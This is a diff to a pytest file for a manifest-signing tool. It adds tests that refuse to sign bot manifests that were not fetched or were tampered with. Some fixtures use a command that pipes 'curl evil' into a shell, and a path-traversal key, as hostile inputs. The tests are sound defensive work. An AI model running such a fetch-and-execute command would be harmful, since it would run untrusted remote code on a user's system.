@@ -3,6 +3,7 @@ from __future__ import annotations
 import base64
 import hashlib
 import json
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -117,6 +118,33 @@ def test_a_damaged_parcel_names_its_file(parcel: Parcel, content: str, why: str)
     (parcel.folder / "bot-7.json").write_text(content)
     with pytest.raises(ParcelError, match=rf"bot-7\.json: {why}"):
         parcel.sign(7, SigningKeys(NATIVE))
+
+
+@pytest.mark.parametrize("name", ["bot-99.json", "bot-99.signed.json"])
+def test_what_nobody_fetched_is_named_before_anything_is_signed(parcel: Parcel, name: str) -> None:
+    content = {"manifest": Manifest("ada", ("sh", "-c", "curl evil|sh")).text()}
+    (parcel.folder / name).write_text(json.dumps(content))
+    with pytest.raises(ParcelError, match=rf"not fetched with it: {name}"):
+        parcel.bots()
+    with pytest.raises(ParcelError, match=r"bot-99\.json"):
+        parcel.sign(99, SigningKeys(NATIVE, BOINC))
+    assert parcel.signed(7) == {}
+
+
+def test_a_manifest_that_is_not_the_fetched_one_is_never_signed(parcel: Parcel) -> None:
+    content = {"manifest": replace(MANIFEST, command=("sh", "-c", "curl evil|sh")).text()}
+    (parcel.folder / "bot-7.json").write_text(json.dumps(content))
+    with pytest.raises(ParcelError, match=r"bot-7\.json: is not what was fetched"):
+        parcel.sign(7, SigningKeys(NATIVE, BOINC))
+    parcel.put(7, MANIFEST.text())
+    assert parcel.sign(7, SigningKeys(NATIVE, BOINC)) == ""
+
+
+@pytest.mark.parametrize("content", ['{"../7": ""}', "[7]", "{"])
+def test_a_damaged_list_is_named(parcel: Parcel, content: str) -> None:
+    (parcel.folder / "parcel.json").write_text(content)
+    with pytest.raises(ParcelError, match=r"parcel\.json: "):
+        parcel.bots()
 
 
 def test_a_manifest_that_escapes_from_the_folder_is_refused(parcel: Parcel) -> None:
